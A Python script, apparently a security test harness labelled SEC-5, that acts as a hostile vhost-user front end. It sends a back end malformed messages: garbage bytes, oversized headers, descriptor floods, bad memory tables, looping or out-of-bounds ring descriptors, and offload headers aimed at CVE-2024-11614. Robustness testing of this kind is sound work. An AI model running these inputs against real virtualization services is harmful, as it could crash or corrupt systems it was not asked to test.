#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause
"""A vhost-user front end that means no good (SEC-5).

    vhost_hostile.py SOCKET WHAT     does it, and ends when it was thrown out or after a second

The protocol is QEMU's docs/interop/vhost-user.rst: a header of request, flags and size, then the
payload; file descriptors go beside the header.
"""
import array
import mmap
import os
import random
import socket
import struct
import sys
import time

SET_FEATURES, SET_OWNER, SET_MEM_TABLE = 2, 3, 5
SET_VRING_NUM, SET_VRING_ADDR, SET_VRING_BASE = 8, 9, 10
SET_VRING_KICK, SET_VRING_CALL, SET_VRING_ENABLE = 12, 13, 18
VERSION = 1
F_PROTOCOL, F_VERSION_1 = 1 << 30, 1 << 32
SIZE, RING = 1 << 20, 256
BASE = 0x100000000  # where the "guest" and the "process" have their memory
DESC, AVAIL, USED, DATA = 0, 0x10000, 0x20000, 0x40000
NEXT, INDIRECT = 1, 4


def send(sock, request, payload=b"", fds=(), size=None):
    head = struct.pack("<III", request, VERSION, len(payload) if size is None else size)
    rights = [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", fds))] if fds else []
    sock.sendmsg([head + payload], rights)


def memfd(size):
    fd = os.memfd_create("guest")
    os.ftruncate(fd, size)
    return fd


def region(guest=BASE, size=SIZE, user=BASE, offset=0):
    return struct.pack("<QQQQ", guest, size, user, offset)


def garbage(sock):
    random.seed(1)
    sock.sendall(random.randbytes(4096))


def requests(sock):
    """Every request number there is and some more, each with a payload of zeros."""
    for request in range(64):
        send(sock, request, bytes(8))


def half(sock):
    send(sock, SET_MEM_TABLE, bytes(20), size=200)
    time.sleep(1)


def huge(sock):
    send(sock, SET_MEM_TABLE, bytes(64), size=0xffffffff)


def flood_of_fds(sock):
    # Of memory that can be mapped: what cannot be leaks one descriptor in DPDK 22.11 (port_vhost.c).
    memory = memfd(SIZE)
    fds = [os.dup(memory) for _ in range(250)]
    for _ in range(50):
        send(sock, SET_MEM_TABLE, struct.pack("<II", 8, 0) + region() * 8, fds)


def bad_table(sock):
    fd = memfd(4096)
    for table, fds in (
            (struct.pack("<II", 255, 0) + region() * 8, [fd] * 8),
            (struct.pack("<II", 1, 0) + region(size=1 << 60), [fd]),
            (struct.pack("<II", 1, 0) + region(offset=1 << 62), [fd]),
            (struct.pack("<II", 1, 0) + region(size=0), [fd]),
            (struct.pack("<II", 2, 0) + region() * 2, [fd]),
            (struct.pack("<II", 1, 0) + region(), [os.open("/dev/null", os.O_RDWR)])):
        send(sock, SET_MEM_TABLE, table, fds)


def ring_setup(sock, index, addr=None, num=RING):
    send(sock, SET_VRING_NUM, struct.pack("<II", index, num))
    send(sock, SET_VRING_BASE, struct.pack("<II", index, 0))
    user = BASE if addr is None else addr
    at = user + index * 0x80000
    send(sock, SET_VRING_ADDR, struct.pack("<IIQQQQ", index, 0, at + DESC, at + USED, at + AVAIL, 0))
    for request in (SET_VRING_KICK, SET_VRING_CALL):
        fd = os.eventfd(0)
        send(sock, request, struct.pack("<Q", index), [fd])
        os.close(fd)
    send(sock, SET_VRING_ENABLE, struct.pack("<II", index, 1))


def connected(sock):
    """A good start: two rings in memory that is there."""
    fd = memfd(SIZE)
    mem = mmap.mmap(fd, SIZE)
    send(sock, SET_OWNER)
    send(sock, SET_FEATURES, struct.pack("<Q", F_PROTOCOL | F_VERSION_1 | 1 << 28 | 1 << 15 | 1 << 11 | 1 << 12 | 1))
    send(sock, SET_MEM_TABLE, struct.pack("<II", 1, 0) + region(), [fd])
    ring_setup(sock, 0)
    ring_setup(sock, 1)
    time.sleep(0.3)
    return fd, mem


def offer(mem, index, descriptors, heads):
    """Puts descriptors (address, length, flags, next) into a ring and makes heads available."""
    at = index * 0x80000
    for i, d in enumerate(descriptors):
        struct.pack_into("<QIHH", mem, at + DESC + 16 * i, *d)
    for i, head in enumerate(heads):
        struct.pack_into("<H", mem, at + AVAIL + 4 + 2 * i, head)
    struct.pack_into("<HH", mem, at + AVAIL, 0, len(heads))


def bad_rings(sock):
    _, mem = connected(sock)
    for descriptors, heads in (
            ([(BASE + DATA, 64, 0, 0)], [0xffff] * RING),               # no such descriptor
            ([(BASE + DATA, 64, NEXT, 1), (BASE + DATA, 64, NEXT, 0)], [0] * RING),  # a loop
            ([(0xdead000000, 1500, 0, 0)], [0] * RING),                 # outside of all memory
            ([(BASE + SIZE - 4, 0xffffffff, 0, 0)], [0] * RING),        # and half outside
            ([(BASE + DATA, 0, 0, 0)], [0] * RING),                     # nothing
            ([(BASE + DATA, 16, INDIRECT, 0)], [0] * RING),             # a table within the data
            ([(BASE + DATA, 1 << 31, INDIRECT | NEXT, 7)], [0] * RING)):
        for index in (0, 1):
            offer(mem, index, descriptors, heads)
        time.sleep(0.1)
    struct.pack_into("<H", mem, 0x80000 + AVAIL + 2, 0x7fff)  # more than there are
    time.sleep(0.2)


def bad_offloads(sock):
    """Checksum and segmentation that the frame does not bear (CVE-2024-11614)."""
    _, mem = connected(sock)
    frame = bytes.fromhex("020000000001020000000002" "0800" "4500002e00000000400600000a0000010a000002") + bytes(26)
    descriptors = []
    for i, (flags, gso, hdr_len, gso_size, start, offset) in enumerate((
            (1, 0, 0, 0, 0xffff, 0xffff), (1, 0, 0, 0, 14, 0xffff), (1, 0, 0, 0, 58, 6),
            (1, 1, 54, 0, 34, 16), (1, 1, 0xffff, 1, 34, 16), (1, 0x85, 54, 65535, 34, 16),
            (0, 1, 54, 1448, 0, 0), (1, 3, 42, 1, 34, 6), (1, 4, 54, 536, 34, 16))):
        at = DATA + 256 * i
        mem[at:at + 12 + len(frame)] = struct.pack("<BBHHHHH", flags, gso, hdr_len, gso_size, start, offset, 0) + frame
        descriptors.append((BASE + at, 12 + len(frame), 0, 0))
    offer(mem, 1, descriptors, [i % len(descriptors) for i in range(RING)])
    time.sleep(0.3)


def bad_ring_addresses(sock):
    fd = memfd(SIZE)
    send(sock, SET_OWNER)
    send(sock, SET_FEATURES, struct.pack("<Q", F_PROTOCOL | F_VERSION_1))
    send(sock, SET_MEM_TABLE, struct.pack("<II", 1, 0) + region(), [fd])
    ring_setup(sock, 0, addr=0xdead0000)
    ring_setup(sock, 1, num=0xffff)
    ring_setup(sock, 0, num=0)
    time.sleep(0.2)


def gone_memory(sock):
    """The rings are there, then their memory is not: the file is cut."""
    fd, mem = connected(sock)
    offer(mem, 1, [(BASE + DATA, 64, 0, 0)], [0] * 16)
    os.ftruncate(fd, 0)
    time.sleep(1.5)


WHAT = {f.__name__: f for f in (garbage, requests, half, huge, flood_of_fds, bad_table, bad_ring_addresses,
                                bad_rings, bad_offloads, gone_memory)}


def main():
    if len(sys.argv) == 2 and sys.argv[1] == "list":
        print(*WHAT)
        return
    path, what = sys.argv[1:]
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.connect(path)
    sock.settimeout(1)
    try:
        WHAT[what](sock)
        while sock.recv(4096):
            pass
    except OSError:  # thrown out, or left to itself
        pass


main()
